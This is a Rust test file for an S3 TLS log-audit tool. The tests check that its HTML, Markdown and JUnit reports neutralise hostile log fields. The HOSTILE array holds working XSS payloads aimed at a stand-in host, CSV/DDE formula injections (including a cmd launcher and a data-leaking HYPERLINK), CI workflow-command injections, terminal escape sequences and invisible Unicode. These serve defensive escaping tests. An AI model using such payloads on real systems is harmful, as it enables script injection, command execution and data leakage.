//! The reports for people and CI servers: pages, summaries and JUnit XML.

use std::collections::BTreeSet;

use pulldown_cmark::{Event, Options, Parser, Tag};
use quick_xml::events::Event as Xml;
use quick_xml::{Reader, XmlVersion};

use super::{line, run, run_with_input, without_run};

/// Hostile text that clients may write into headers.
pub(crate) const HOSTILE: [&str; 56] = [
    "<script>document.title='owned'</script>",
    "<img src=http://hostile.example/i onerror=document.title='owned'>",
    "<svg onload=document.title='owned'><a href=http://hostile.example/>",
    "\\\"><script>document.title='owned'</script>",
    "'><link rel=stylesheet href=http://hostile.example/s>",
    "</style><style>*{display:none}</style>",
    "</script><script>document.title='owned'</script>",
    "</title><base href=http://hostile.example/>",
    "<!-- <iframe src=http://hostile.example/f>",
    "<![CDATA[ ]]> <?xml version='1.0'?> &lt;&#60;&amp;&bogus;",
    "{{constructor.constructor('document.title=1')()}} ${document.title=1}",
    "javascript:document.title='owned'",
    "[click](http://hostile.example) ![i](http://hostile.example/i)",
    "[click][ref] [ref]: http://hostile.example",
    "http://hostile.example www.hostile.example https://hostile.example/a_b_c",
    "<http://hostile.example> <mailto:a@hostile.example> a@hostile.example",
    "@octocat @hostile/team #123 GH-123 octocat/repo#1 !7 &epic ~label",
    "**bold** __bold__ *em* _em_ ~~gone~~ ==mark== $$math$$ $`math`$",
    "# heading",
    "- item | cell | cell \\| cell \\\\| cell",
    "`code` ``two`` ``` ~~~ `",
    "`````````````````````````````````````````````````````````````````````````````````````````````",
    "|||| ---- | --- |",
    "\\` \\",
    ":warning: [x] [ ] [^1] [^1]: note",
    "\u{202e}nimda\u{202c} \u{2066}a\u{2069} \u{200b}\u{feff}",
    "nul\0 escape\x1b[2J bell\x07 \u{fffe}\u{ffff} \u{85}",
    "line\u{2028}separator\u{2029}s",
    " ",
    "<details><summary>open</summary>",
    "\x1b]8;;http://hostile.example\x1b\\link\x1b]8;;\x07",
    "\u{9b}31mred\u{9d}0;owned\u{9c}\x7f \x1b[6n\x1b]52;c;b3duZWQ=\x07",
    "\r\x0b\x0c\x08overwritten",
    "\u{61c}\u{200f}\u{2067}a\u{e0041}\u{fffb}\u{ad}\u{180e}",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\u{3000}=1+1",
    "\u{ff1d}1+1 ;=1+1",
    "=HYPERLINK(\"http://hostile.example/\"&A1,\"open\")",
    "'=cmd|'/C calc'!A0,\"=1+1",
    "x;=1+1;y; @SUM(1,1)",
    ";=1+1\";=1+1",
    "::add-mask::a ::set-output name=x::owned",
    "\u{a0} ::stop-commands::owned",
    "##[add-mask]e ###[group]a",
    "##vso[task.setvariable variable=PATH]owned",
    "##teamcity[buildStatus status='SUCCESS']",
    "--- group +++ group ~~~ group",
    ":",
    "arn:aws:iam::add-mask::a/arn:aws:iam::add-mask::a/arn:aws:iam::add-mask::a/arn:aws:iam::a::a",
    "\u{34f}\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}\u{fe0f}\u{e0100}",
    "\u{1d173}\u{1bca0}\u{13430}\u{fdd0}\u{1fffe}\u{17b4}",
];

/// A requester that is nothing but a name where that could be a formula, and else a user's ARN.
fn requester(name: &str) -> String {
    if name.contains("1+1") {
        name.to_owned()
    } else {
        format!("arn:aws:iam::123456789012:user/{name}")
    }
}

/// Log lines of callers whose names, clients, buckets, hosts and cipher suites are hostile: a risky
/// one for each.
pub(crate) fn hostile_lines() -> String {
    let long = "A-very-long-name/".repeat(3_000 / 17);
    let mut lines = String::new();
    for text in HOSTILE.iter().copied().chain([long.as_str()]) {
        // A requester and a bucket end at the next space.
        let name = text.replace(' ', "+");
        for version in ["TLSv1", "-"] {
            let line = line(version, text)
                .replace("arn:aws:iam::123456789012:user/alice", &requester(&name))
                .replacen(" example-data ", &format!(" {name} "), 1)
                .replace("example-data.s3.eu-west-1.amazonaws.com", &name)
                .replace("ECDHE-RSA-AES128-GCM-SHA256", &name);
            lines.push_str(&line);
        }
    }
    lines
}

/// A report of the hostile lines, with rules that they break.
fn hostile(format: &str) -> String {
    let rules = ["--fail-on", "old-tls,http,sigv2"];
    let shown = ["--all", "--show", "all"];
    let args = [&["audit", "-"][..], &rules, &shown].concat();
    let run = run_with_input(
        &[&args[..], &["--format", format]].concat(),
        hostile_lines().as_bytes(),
    );
    assert_eq!(run.status, 1, "{}", run.stderr);
    run.stdout
}

fn report(args: &[&str]) -> String {
    run(&[&["audit", "fixtures/logs"], args].concat()).stdout
}

#[test]
fn html() {
    let page = without_run(&report(&["--format", "html", "--fail-on", "old-tls,http"]));
    // The style and script are files of their own, and change more often than the page.
    let page = without(&page, "<style>", "</style>");
    let page = without(&page, "<script>", "</script>");
    let policy = regex::Regex::new("sha256-[^']*").expect("a pattern");
    // Lines are not part of the page's form, but make changes of it readable.
    let page = policy
        .replace_all(&page, "sha256-HASH")
        .replace("><", ">\n<");
    insta::assert_snapshot!(page);
}

/// The text without the part between two marks.
fn without(text: &str, from: &str, to: &str) -> String {
    let (before, rest) = text.split_once(from).expect("the page has it");
    let (_, after) = rest.split_once(to).expect("the page ends it");
    format!("{before}{from}{to}{after}")
}

#[test]
fn markdown() {
    insta::assert_snapshot!(report(&[
        "--format",
        "markdown",
        "--fail-on",
        "old-tls,http"
    ]));
}

/// Behind the name of the rule, in each format.
#[test]
fn callers_are_below_the_rule_that_they_break() {
    let args = ["--fail-on", "http", "--bucket", "example-data"];
    let of = |format: &str| report(&[&args[..], &["--format", format]].concat());
    let first = "3 from arn:aws:iam::123456789012:user/alice, aws-cli/2.15.21";
    let markdown = of("markdown");
    let item = format!("\n  - `{first}`\n");
    assert!(markdown.contains(&item), "{markdown}");
    let page = of("html");
    let item = format!("<ul><li><span class=\"name\">{first}</span></li>");
    assert!(page.contains(&item), "{page}");
    let table = of("table");
    let item = format!("\n    {first}\n");
    assert!(table.contains(&item), "{table}");
}

#[test]
fn junit() {
    let rules = "old-tls,http,sigv2,unknown-tls";
    insta::assert_snapshot!(report(&["--format", "junit", "--fail-on", rules]));
}

#[test]
fn nothing_said_without_requests_is_wrong() {
    for format in ["html", "markdown", "junit"] {
        let run = run_with_input(&["audit", "-", "--format", format], b"");
        assert_eq!(run.status, 3);
        assert!(
            run.stdout.contains("the input contains no records"),
            "{format}: {}",
            run.stdout
        );
    }
}

/// A promise about some requests must not be taken for one about all.
#[test]
fn filters_are_told_at_the_top() {
    let filters = [
        "--tls-version",
        "1.3",
        "--bucket",
        "e*",
        "--bucket",
        "`|<b>",
    ];
    for (format, told) in [
        (
            "html",
            "Only requests to bucket NAME(e* or `|&lt;b&gt;), with tls_version NAME(TLSv1.3)</p>",
        ),
        (
            "markdown",
            "Only requests to bucket `e* or \\u{60}\\u{7c}<b>`, with `tls_version` `TLSv1.3`\n",
        ),
    ] {
        let told = told.replace("NAME(", "<span class=\"name\">");
        let told = told.replace(')', "</span>");
        let report = report(&[&["--format", format], &filters[..]].concat());
        assert!(report.contains(&told), "{report}");
    }
    for (filters, told) in [
        (&["--since=2026-11-01"][..], "since `2026-11-01`"),
        (
            &["--until=2026-11-09T10:00", "--since=2019-01-01"],
            "since `2019-01-01`, before `2026-11-09T10:00:00Z`",
        ),
        (
            &[
                "--requester=!svc:*",
                "--bucket=!x",
                "--bucket=!y",
                "--until=2030-01-01",
            ],
            "before `2030-01-01`, not to bucket `x or y`, without requester `svc:*`",
        ),
        (
            &[
                "--where=client=Boto*",
                "--where=client!=Boto3*",
                "--bucket=e*",
            ],
            "to bucket `e*`, with client `Boto*`, without client `Boto3*`",
        ),
    ] {
        let report = report(&[&["--format=md"], filters].concat());
        assert!(
            report.contains(&format!("Only requests {told}\n")),
            "{report}"
        );
    }
}

#[test]
fn the_status_does_not_depend_on_the_format() {
    for format in ["html", "markdown", "junit"] {
        let args = ["audit", "fixtures/logs", "--format", format];
        assert_eq!(run(&args).status, 0, "{format}");
        let failing = [&args[..], &["--fail-on", "http"]].concat();
        assert_eq!(run(&failing).status, 1, "{format}");
    }
}

#[test]
fn reports_are_the_same_each_time_and_bounded() {
    let mut lines = String::new();
    for number in 0..1_500 {
        let agent = format!("client-{number}/1.0 {}", "\u{1f600}".repeat(700));
        lines.push_str(&line("TLSv1", &agent).replace("example-data", &format!("bucket-{number}")));
    }
    let size = |args: &[&str]| {
        let all = [&["audit", "-", "--fail-on", "old-tls"], args].concat();
        let first = run_with_input(&all, lines.as_bytes()).stdout;
        let again = [&all[..], &["--threads", "1"]].concat();
        let again = run_with_input(&again, lines.as_bytes()).stdout;
        assert_eq!(without_run(&first), without_run(&again));
        first.len()
    };
    // GitHub accepts summaries of up to 1 MiB.
    assert!(size(&["--format", "markdown", "--all"]) < 600_000);
    assert!(size(&["--format", "markdown"]) < 60_000);
    let page = size(&["--format", "html"]);
    assert!(page < 3_500_000, "{page}");
    assert!(size(&["--format", "html", "--all"]) > page);
}

#[test]
fn files_are_named_by_their_extensions() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = |name: &str| folder.path().join(name).to_str().expect("UTF-8").to_owned();
    for (name, beginning) in [
        ("a.md", "## "),
        ("a.markdown", "## "),
        ("a.html", "<!DOCTYPE html>"),
        ("a.HTM", "<!DOCTYPE html>"),
        ("a.xml", "<?xml version=\"1.0\""),
    ] {
        let path = path(name);
        let run = run(&["audit", "fixtures/logs", "--output", &path]);
        assert_eq!(run.status, 0, "{}", run.stderr);
        let written = std::fs::read_to_string(&path).expect("a report");
        assert!(written.starts_with(beginning), "{name}");
    }
}

#[test]
fn nothing_unseen_is_left_in_hostile_text() {
    let is_unseen = |character: char| {
        character.is_control() && character != '\n'
            || ('\u{200b}'..='\u{200f}').contains(&character)
            || ('\u{2028}'..='\u{202e}').contains(&character)
            || ('\u{2066}'..='\u{2069}').contains(&character)
            || ('\u{fffe}'..='\u{ffff}').contains(&character)
    };
    for format in ["html", "markdown", "junit"] {
        assert_eq!(hostile(format).find(is_unseen), None, "{format}");
    }
}

/// Every way that a reader of Markdown may take text for something else.
#[test]
fn hostile_text_in_markdown_stays_code() {
    let markdown = hostile("markdown");
    let mut columns = Vec::new();
    let (mut cells, mut rows, mut in_code) = (0, 0, 0);
    for event in Parser::new_ext(&markdown, Options::all()) {
        match event {
            Event::Start(Tag::Table(alignments)) => columns.push(alignments.len()),
            Event::Start(Tag::TableRow) => rows += 1,
            Event::Start(Tag::TableCell) => cells += 1,
            Event::Start(
                Tag::Heading { .. }
                | Tag::Paragraph
                | Tag::List(None)
                | Tag::Item
                | Tag::TableHead
                | Tag::Strong,
            )
            | Event::End(_)
            | Event::SoftBreak => {}
            Event::Code(text) => in_code += usize::from(text.contains("hostile.example")),
            Event::Text(text) => {
                for sign in [
                    "@",
                    "#",
                    "<",
                    "://",
                    "www.",
                    "hostile.example",
                    "`",
                    "octocat",
                ] {
                    assert!(!text.contains(sign), "{sign} in {text}");
                }
            }
            other => panic!("{other:?}"),
        }
    }
    assert!(
        in_code > 20 && rows > 60 && cells > rows,
        "{in_code} {rows}"
    );
    // Only words of the report itself are bold.
    let bold: BTreeSet<_> = markdown.split("**").skip(1).step_by(2).collect();
    let words = [
        "✗ Gate failed: old-tls, http.",
        "failed",
        "passed",
        "no",
        "✗ no",
        "Fix",
        "Fix for both",
        "Fix for all 3",
        "Fix for all 4",
        "Fix for all 5",
        "bold",
        "plain HTTP",
        "1",
        "2",
        "1 of 2 requests · TLS 1.0",
        "1 of 2 requests · plain HTTP",
    ];
    assert!(bold.iter().all(|word| words.contains(word)), "{bold:?}");
    // No pipes except those of the tables, since readers disagree about a pipe after a backslash.
    let mut width = 0;
    for line in markdown.lines() {
        let pipes = line.matches('|').count();
        if line.starts_with("| -") {
            width = pipes;
        }
        assert!(
            pipes == 0 || !line.starts_with("| `") || pipes == width,
            "{line}"
        );
    }
}

/// The elements of an XML document with their attributes and text, as a reader finds them.
fn elements(xml: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut reader = Reader::from_str(xml);
    let mut elements = Vec::new();
    loop {
        match reader.read_event().expect("well-formed XML") {
            Xml::Start(element) | Xml::Empty(element) => {
                let name = element.name().as_ref().to_owned();
                let attributes = element.attributes().map(|attribute| {
                    let attribute = attribute.expect("a well-formed attribute");
                    let value = attribute
                        .normalized_value(XmlVersion::Explicit1_0)
                        .expect("a well-formed value");
                    (attribute.key.as_ref().to_owned(), value.into_owned())
                });
                elements.push((name, attributes.collect()));
            }
            Xml::Eof => return elements,
            _ => {}
        }
    }
}

fn count(elements: &[(String, Vec<(String, String)>)], name: &str) -> usize {
    elements.iter().filter(|(found, _)| found == name).count()
}

#[test]
fn junit_is_well_formed_whatever_strangers_write() {
    let xml = hostile("junit");
    let elements = elements(&xml);
    let known = [
        "testsuites",
        "testsuite",
        "testcase",
        "failure",
        "error",
        "skipped",
    ];
    for (name, _) in &elements {
        assert!(known.contains(&name.as_str()), "{name}");
    }
    // The suite of the whole and one for each rule. A bucket for each hostile name breaks two of
    // them, and one case says that none breaks the third.
    let buckets = HOSTILE.len() + 1;
    assert_eq!(count(&elements, "testsuite"), 4);
    assert_eq!(count(&elements, "failure"), buckets * 2);
    assert_eq!(count(&elements, "testcase"), buckets * 2 + 3);
    let (_, totals) = &elements[0];
    for (key, value) in [
        ("tests", buckets * 2 + 3),
        ("failures", buckets * 2),
        ("errors", 0),
        ("skipped", 0),
    ] {
        assert!(
            totals.contains(&(key.to_owned(), value.to_string())),
            "{totals:?}"
        );
    }
}

#[test]
fn junit_sums_up_the_buckets_without_findings() {
    let buckets = |name: &'static str| (0..30).map(move |number| format!("{name}-{number} ["));
    let good = buckets("good").map(|name| line("TLSv1.3", "a").replace("example-data [", &name));
    let old = buckets("old")
        .take(2)
        .map(|name| line("TLSv1", "a").replace("example-data [", &name));
    let lines: String = good.chain(old).collect();
    let args = ["audit", "-", "--format=junit", "--fail-on=old-tls,http"];
    let xml = run_with_input(&args, lines.as_bytes()).stdout;
    let cases: Vec<_> = elements(&xml)
        .into_iter()
        .filter(|(name, _)| name == "testcase")
        .map(|(_, attributes)| {
            let values: Vec<_> = attributes.into_iter().map(|(_, value)| value).collect();
            values.join(" ")
        })
        .collect();
    assert_eq!(
        cases[2..],
        [
            "old-tls old-0",
            "old-tls old-1",
            "old-tls 30 other buckets",
            "http 32 buckets"
        ]
    );
}

#[test]
fn junit_has_a_case_for_whatever_else_can_fail() {
    let names = |args: &[&str], input: &str| {
        let all = [&["audit", "-", "--format", "junit"], args].concat();
        let xml = run_with_input(&all, input.as_bytes()).stdout;
        let result = |name: &str, xml: &str| {
            let case = xml.split(&format!("name=\"{name}\"")).nth(1)?;
            let inside = case.split("<testcase").next()?;
            let result = ["failure", "error", "skipped"];
            let result = result
                .iter()
                .find(|kind| inside.contains(&format!("<{kind} ")));
            Some(result.copied().unwrap_or("passed").to_owned())
        };
        [
            "every file could be read",
            "conclusive",
            "quiet-for",
            "baseline",
            "rules",
        ]
        .map(|name| result(name, &xml).unwrap_or_default())
    };
    let old = line("TLSv1", "a/1");
    assert_eq!(names(&[], &old), ["passed", "passed", "", "", "skipped"]);
    assert_eq!(names(&[], ""), ["passed", "error", "", "", "skipped"]);
    assert_eq!(
        names(&["--fail-on", "http", "no/such/file"], &old),
        ["error", "passed", "", "", ""]
    );
    let quiet = ["--quiet-for", "1d", "--until"];
    assert_eq!(
        names(&[&quiet[..], &["2026-11-03"]].concat(), &old),
        ["passed", "passed", "failure", "", ""]
    );
    assert_eq!(
        names(&[&quiet[..], &["2026-11-09"]].concat(), &old),
        ["passed", "error", "error", "", ""]
    );
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("baseline.json");
    let path = path.to_str().expect("UTF-8");
    let entry = r#"{"schema": "s3tls.baseline/1", "accepted": [{"bucket": "example-data",
        "principal": "arn:aws:iam::123456789012:user/alice", "client": "a/1", "transport": "tls",
        "tls_version": "TLSv1.0", "reason": "kiosk", "owner": "<ops>", "expires": "2020-01-31"}]}"#;
    std::fs::write(path, entry).expect("a baseline");
    assert_eq!(
        names(&["--fail-on", "old-tls", "--baseline", path], &old),
        ["passed", "passed", "", "failure", ""]
    );
    std::fs::write(path, entry.replace("2020-01-31", "9999-01-31")).expect("a baseline");
    assert_eq!(
        names(&["--fail-on", "old-tls", "--baseline", path], &old),
        ["passed", "passed", "", "passed", ""]
    );
    for format in ["html", "markdown"] {
        let args = ["audit", "-", "--format", format, "--baseline", path];
        let report = run_with_input(&args, old.as_bytes()).stdout;
        assert!(report.contains("0 of 1 entry has expired"), "{report}");
    }
}
